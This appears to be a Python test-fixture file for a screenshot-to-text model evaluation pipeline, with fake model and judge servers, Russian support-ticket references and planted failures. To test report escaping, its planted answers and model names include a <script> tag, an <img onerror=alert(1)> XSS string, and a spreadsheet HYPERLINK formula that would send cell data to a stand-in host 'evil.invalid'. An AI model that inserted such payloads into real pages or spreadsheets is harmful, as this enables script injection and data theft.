"""Real runs for the report tests, built through the pipeline's own stages (no hand-made store or summary).

- :func:`planted_run`: ``vlmpipe.run`` against the stand-in servers of ``fakeserver.py`` — a candidate server
  answering per (model, screenshot) with planted text (a ``<script>``, a misspelling, an invented number, an English
  answer, a spreadsheet formula, repeats that disagree), failing chosen requests (HTTP 500, 429, a stall past the
  timeout), a judge server with fixed scores per model (and one model it cannot grade), and a perplexity endpoint.
  One screenshot is missing. Every expected number below follows from these choices.
- :func:`import_run`: ``import_table`` of a CSV the test writes (recorded texts, latencies, failures), then
  ``score``.
- :func:`peer_run`: the peer's recorded results (``../shared/peer``) imported with ``import_original`` and scored.
"""

from __future__ import annotations

import csv
import json
import threading
from collections import Counter
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import yaml

from fakeserver import Behavior, FakeOpenAIServer
from reliability_helpers import file_digest, image_digest
from vlmpipe.app.demo import demo_dir
from vlmpipe.app.pipeline import RunResult, run, score
from vlmpipe.metrics import REGISTRY
from vlmpipe.stages.importers.original import import_original
from vlmpipe.stages.importers.table import import_table

# --- the planted run ------------------------------------------------------------------------------------------

PLANTED = ('<script>document.title="PWNED";'
           'document.body.appendChild(document.createElement("blink")).id="pwned"</script>')
EXPLANATION = "<img src=x onerror=alert(1)> The candidate names the order."
GOOD, AWQ, SMALL, FORMULA = "Qwen2-VL-7B-Instruct", "Qwen2-VL-7B-Instruct-AWQ", "Модель-2B", "formula-bot"
MODELS = [GOOD, AWQ, SMALL, FORMULA]
REPEATS = 2
#: screenshot id -> (image file in the demo's data, reference, key facts); ``lost_image``'s file does not exist
ITEMS = {
    "failed_payment": ("failed_payment.png",
                       "Здравствуйте! Оплата заказа 02632305-0222 на 20 588 ₽ не проходит, деньги списались дважды.",
                       ["20 588 ₽"]),
    "cancelled_order": ("cancelled_order.png",
                        "Здравствуйте! Мой заказ 41276-0093 отменили 23 октября, когда вернут 3 270 ₽?",
                        ["3 270 ₽"]),
    "blocked_card": ("blocked_card.png",
                     "Здравствуйте! Карту заблокировали после оплаты 1 500 ₽, как её разблокировать?", ["1 500 ₽"]),
    "lost_image": ("missing.png", "Здравствуйте! Скриншот потерялся.", []),
}
USED = [i for i in ITEMS if i != "lost_image"]
#: what each model answers, per screenshot (the same text for both repeats, except the formula bot's)
ANSWERS: dict[str, dict[str, str]] = {
    GOOD: {i: ITEMS[i][1] for i in USED},  # word for word the reference
    AWQ: {i: ITEMS[i][1].split(",")[0] + "." for i in USED},  # the first clause only
    SMALL: {"failed_payment": "Здравствуйте! Не праходит оплата заказа на сумму 43 рубля.",
            "cancelled_order": "Hello! My order was cancelled, when will I get the money back? " + PLANTED,
            "blocked_card": "Здравствуйте! Карту заблокировали после оплаты 1 500 ₽, помогите."},
}
#: the formula bot answers differently at each repeat: a formula, then an unrelated sentence
FORMULA_ANSWERS = ('=HYPERLINK("http://evil.invalid/?d="&A1,"Подробнее") {item}',
                   "Добрый вечер, подскажите расписание электричек до Твери на завтра")
#: the first request for these (model, screenshot) fails: that much is planted, whichever repeat it is
FAILURES = {(AWQ, "failed_payment"): "http_500", (AWQ, "cancelled_order"): "http_500",
            (AWQ, "blocked_card"): "http_429", (SMALL, "blocked_card"): "timeout"}
#: the judge's fixed scores: the reference and the good model's answers 8, the AWQ variant's 6, the 2B model's 4;
#: the formula bot's answers get no scores at all (a malformed verdict every time)
REFERENCE_SCORE = 8
JUDGE_SCORES = {GOOD: 8, AWQ: 6, SMALL: 4}


def answer_owner(text: str) -> str | None:
    """Which model wrote an answer the judge sees (the references count as the good model's)."""
    for model, answers in ANSWERS.items():
        if text.strip() in (a.strip() for a in answers.values()):
            return model
    return FORMULA if any(text.strip().startswith(a[:12]) for a in FORMULA_ANSWERS) else None


class Candidates:
    """The candidate server's behaviour: per (model, screenshot) answers and the planted failures."""

    def __init__(self, digests: dict[str, str]) -> None:
        self.items = digests  # image digest -> screenshot id
        self.seen: Counter[tuple[str, str]] = Counter()
        self.lock = threading.Lock()

    def __call__(self, index: int, body: dict[str, Any]) -> Behavior:
        model, item = body["model"], self.items[image_digest(body)]
        with self.lock:
            self.seen[(model, item)] += 1
            nth = self.seen[(model, item)]
        failure = FAILURES.get((model, item)) if nth == 1 else None
        if failure == "timeout":
            return Behavior("stall", stall_s=3.0)
        if failure:
            return Behavior("status", status=int(failure.removeprefix("http_")))
        if model == FORMULA:
            return Behavior(text=FORMULA_ANSWERS[(nth - 1) % 2].format(item=item))
        return Behavior(text=ANSWERS[model][item])


def judge_verdict(body: dict[str, Any]) -> str:
    """The stand-in judge: fixed scores by who wrote each answer; the 2B model's explanation plants markup."""
    import re

    user = body["messages"][-1]["content"]
    text = next(p["text"] for p in user if p["type"] == "text")
    answers = dict(re.findall(r"<answer_([ab])>\n(.*?)\n</answer_\1>", text, re.DOTALL))
    owners = {k: answer_owner(v) for k, v in answers.items()}
    if FORMULA in owners.values():
        return "Both answers are fine, I would rather not give numbers."

    def score(k: str) -> int:
        return JUDGE_SCORES.get(owners[k] or "", REFERENCE_SCORE)

    def explain(k: str) -> str:
        return EXPLANATION if owners[k] == SMALL else "Кандидат точен."

    verdict = {"explanation_a": explain("a"), "explanation_b": explain("b"), "score_a": score("a"),
               "score_b": score("b")}
    return json.dumps(verdict, ensure_ascii=False)


def write_dataset(folder: Path) -> Path:
    """The screenshots (copied from the demo's data) and a manifest with references and key facts."""
    folder.mkdir(parents=True, exist_ok=True)
    lines = []
    for item, (image, reference, facts) in ITEMS.items():
        if item != "lost_image":
            (folder / image).write_bytes((demo_dir() / "data" / image).read_bytes())
        lines.append(json.dumps({"id": item, "image": image, "reference": reference, "facts": facts},
                                ensure_ascii=False))
    (folder / "manifest.jsonl").write_text("\n".join(lines) + "\n", encoding="utf-8")
    return folder


def planted_config(tmp: Path, candidates: str, judge: str, scorer: str, *, repeats: int = REPEATS,
                   models: list[str] | None = None, name: str = "planted") -> dict[str, Any]:
    data = write_dataset(tmp / "data")
    spec = {"timeout_s": 1.0, "connect_timeout_s": 2, "max_retries": 0, "base_url": candidates}
    return {
        "name": name, "output_dir": str(tmp / "runs"),
        "dataset": {"path": str(data), "manifest": str(data / "manifest.jsonl")},
        "models": [{"name": m, "model": m, **spec} for m in (models or MODELS)],
        "repeats": repeats, "concurrency": 4,
        "metrics": {"enabled": list(REGISTRY), "settings": {
            "grounding": {"ocr": False},
            "perplexity": {"backend": "endpoint", "base_url": scorer, "model": "scorer-lm"}}},
        "judge": {"enabled": True, "mode": "both", "seed": 3, "max_attempts": 2,
                  "model": {"name": "judge", "model": "fake-judge", "base_url": judge, "stream": False,
                            "max_retries": 0, "temperature": 0.0}},
    }


@contextmanager
def stand_ins(data: Path) -> Iterator[tuple[FakeOpenAIServer, FakeOpenAIServer, FakeOpenAIServer]]:
    """The candidate, judge and perplexity servers for the planted run's screenshots in ``data``."""
    digests = {file_digest(data / image): item for item, (image, _r, _f) in ITEMS.items() if (data / image).is_file()}
    with FakeOpenAIServer(behavior_fn=Candidates(digests)) as cand, \
            FakeOpenAIServer(responder=judge_verdict) as judge, FakeOpenAIServer(models=("scorer-lm",)) as scorer:
        yield cand, judge, scorer


def planted_run(tmp: Path, **over: Any) -> RunResult:
    """``vlmpipe.run`` of the planted config (``over``: repeats, models, name)."""
    write_dataset(tmp / "data")
    with stand_ins(tmp / "data") as (cand, judge, scorer):
        from vlmpipe.core.config import config_from_dict

        cfg = config_from_dict(planted_config(tmp, cand.url, judge.url, scorer.url, **over), base_dir=tmp)
        return run(cfg, show_progress=False)


# --- imported runs --------------------------------------------------------------------------------------------

COLUMNS = ["model", "item", "repeat", "text", "reference", "latency_s", "error"]


def import_run(tmp: Path, name: str, rows: list[dict[str, Any]]) -> Path:
    """Write ``rows`` (``COLUMNS``) as a CSV, import it with ``import_table`` into ``tmp/name`` and score it."""
    tmp.mkdir(parents=True, exist_ok=True)
    src = tmp / f"{name}.csv"
    with src.open("w", newline="", encoding="utf-8") as f:
        w = csv.DictWriter(f, fieldnames=COLUMNS)
        w.writeheader()
        w.writerows(rows)
    return score_without_ocr(import_table(src, tmp / name))


def score_without_ocr(run_dir: Path) -> Path:
    """Score an imported run with the grounding metric's OCR off (the screenshots' text feeds only the
    invented-number check), as the tests' imported runs are."""
    cfg_path = run_dir / "config.yaml"
    cfg = yaml.safe_load(cfg_path.read_text(encoding="utf-8"))
    cfg["metrics"]["settings"] = {"grounding": {"ocr": False}}
    cfg_path.write_text(yaml.safe_dump(cfg, allow_unicode=True), encoding="utf-8")
    score(run_dir, show_progress=False)
    return run_dir


# --- the peer's recorded results ------------------------------------------------------------------------------

def peer_run(peer: Path, out: Path, *, judged: bool = True) -> Path:
    """The peer's 400 generations imported and scored (OCR off: the screenshots' text feeds only the invented-number
    check). ``judged=False`` imports them without ``judgement_scores.xlsx``, as a run the judge never saw."""
    source = peer
    if not judged:
        source = out.parent / f"{out.name}-results"
        source.mkdir(parents=True)
        for name in ("summary_test_stats.xlsx", "auto_metrics_stats.xlsx"):
            (source / name).symlink_to((peer / name).resolve())
    return score_without_ocr(import_original(source, peer / "screenshots", out))


# --- two imported runs to compare -----------------------------------------------------------------------------

EVIL_MODEL = "Qwen" + PLANTED
ORDER = "Здравствуйте! Заказ 02632305-0222 на 3 270 ₽ отменили 23 октября. Почему?"
CARD = "Здравствуйте! Карта заблокирована после оплаты 1 500 ₽, как разблокировать?"
INT8 = "Qwen2-VL-7B-Instruct-GPTQ-Int8"
NEW_MODELS = ["new<img src=x onerror=alert(1)>", "模型-中文"]


def _row(model: str, item: str, repeat: int, text: str | None, latency: float | None,
         error: str | None = None) -> dict[str, Any]:
    return {"model": model, "item": item, "repeat": repeat, "text": text or "",
            "reference": ORDER if item == "order" else CARD, "latency_s": "" if latency is None else latency,
            "error": error or ""}


def baseline_rows() -> list[dict[str, Any]]:
    """Run A: the 7B model answers with the references word for word (latencies 1.0 and 1.5 s), the GPTQ-Int8
    variant briefly, the model with a planted name fails its second repeats, a retired model answers once."""
    return [
        _row(GOOD, "order", 0, ORDER, 1.0), _row(GOOD, "order", 1, ORDER, 1.5),
        _row(GOOD, "card", 0, CARD, 1.0), _row(GOOD, "card", 1, CARD, 1.5),
        *(_row(INT8, item, r, text, 0.8) for item, text in (("order", "Заказ 02632305-0222 отменили."),
                                                             ("card", "Карта заблокирована.")) for r in (0, 1)),
        _row(EVIL_MODEL, "order", 0, "Заказ отменили", 0.5), _row(EVIL_MODEL, "order", 1, None, None, "timeout"),
        _row(EVIL_MODEL, "card", 0, "Карта заблокирована", 0.5), _row(EVIL_MODEL, "card", 1, None, None, "timeout"),
        _row("retired", "order", 0, "Заказ", 0.4), _row("retired", "card", 0, "Карта", 0.4),
    ]


#: Run B's 7B answers: no longer the references (so chrF < 100 on every answer); the last one failed.
AFTER_ORDER = "Здравствуйте! Заказ 02632305-0222 отменили, почему?"
AFTER_CARD = "Здравствуйте! Карта заблокирована, помогите."


def after_rows() -> list[dict[str, Any]]:
    """Run B: the 7B model's answers changed (1.5 s each, one failure), the GPTQ-Int8 variant's did not, the model
    with a planted name no longer fails, two new models (one named in markup, one in Chinese)."""
    return [
        _row(GOOD, "order", 0, AFTER_ORDER, 1.5), _row(GOOD, "order", 1, AFTER_ORDER, 1.5),
        _row(GOOD, "card", 0, AFTER_CARD, 1.5), _row(GOOD, "card", 1, None, None, "HTTP 500"),
        *(_row(INT8, item, r, text, 0.8) for item, text in (("order", "Заказ 02632305-0222 отменили."),
                                                             ("card", "Карта заблокирована.")) for r in (0, 1)),
        *(_row(EVIL_MODEL, item, r, text, 0.5) for item, text in (("order", "Заказ отменили"),
                                                                   ("card", "Карта заблокирована")) for r in (0, 1)),
        *(_row(m, "order", 0, "Заказ отменили, верните деньги", 1.0) for m in NEW_MODELS),
    ]
